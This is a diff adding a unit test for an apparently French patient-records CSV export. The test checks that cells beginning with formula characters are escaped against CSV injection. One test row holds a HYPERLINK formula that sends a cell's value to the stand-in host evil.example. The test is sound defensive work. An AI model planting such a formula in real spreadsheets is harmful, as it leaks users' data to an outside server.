@@ -501,3 +501,21 @@ def test_sizes_and_types_as_a_french_reader_reads_them() -> None:
     assert document_type("reports", "11488-4") == "Compte rendu de consultation"
     assert document_type("reports", None) == "Comptes rendus"
     assert file_kind("text/xml", "urn:ihe:iti:xds-sd:pdf:2008") == "CDA (PDF)"
+
+
+def test_what_others_wrote_is_never_a_formula_in_the_exported_spreadsheets() -> None:
+    """A title or a care line's label starting like a formula stays text (CSV injection)."""
+    from central.patient import export
+
+    written = export._csv(
+        ["titre", "libellé"],
+        [
+            ['=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")', "@SUM(1+1)"],
+            ["+33 6 00 00 00 00", "-2 comprimés"],
+            ["Compte rendu", "Doliprane 1000 mg"],
+        ],
+    )
+    rows = list(csv.reader(io.StringIO(written.decode("utf-8-sig")), delimiter=";"))
+    assert rows[1] == ['\'=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")', "'@SUM(1+1)"]
+    assert rows[2] == ["'+33 6 00 00 00 00", "'-2 comprimés"]
+    assert rows[3] == ["Compte rendu", "Doliprane 1000 mg"]  # the rest untouched
